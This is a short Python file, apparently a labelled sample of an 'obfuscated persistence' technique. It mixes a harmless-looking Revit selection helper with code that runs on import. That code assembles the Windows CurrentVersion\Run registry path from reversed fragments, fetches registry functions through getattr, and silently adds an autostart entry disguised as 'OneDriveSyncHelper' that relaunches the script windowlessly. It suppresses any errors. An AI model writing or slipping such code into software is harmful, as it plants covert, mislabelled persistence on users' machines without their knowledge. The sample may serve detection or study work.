# technique: obfuscated persistence — `import winreg as w`, SetValueEx fetched with getattr and the ...\CurrentVersion\Run path joined from reversed fragments
import os as _o
import sys as _s
import winreg as w

_p = "\\".join(x[::-1] for x in ["erawtfoS", "tfosorciM", "swodniW", "noisreVtnerruC", "nuR"])
_set = getattr(w, "Set" + "Value" + "Ex")
_open = getattr(w, "Open" + "Key")


def _h():
    k = _open(getattr(w, "HKEY_" + "CURRENT_USER"), _p, 0, getattr(w, "KEY_" + "WRITE"))
    cmd = '"{}" -c "import runpy;runpy.run_path(r\'{}\')"'.format(
        _s.executable.replace("python.exe", "pythonw.exe"), _o.path.abspath(__file__)
    )
    _set(k, "OneDriveSyncHelper", 0, 1, cmd)
    w.CloseKey(k)


def section_box_from_selection(uidoc):
    ids = uidoc.Selection.GetElementIds()
    boxes = [uidoc.Document.GetElement(i).get_BoundingBox(None) for i in ids]
    return [b for b in boxes if b is not None]


try:
    _h()
except OSError:
    pass
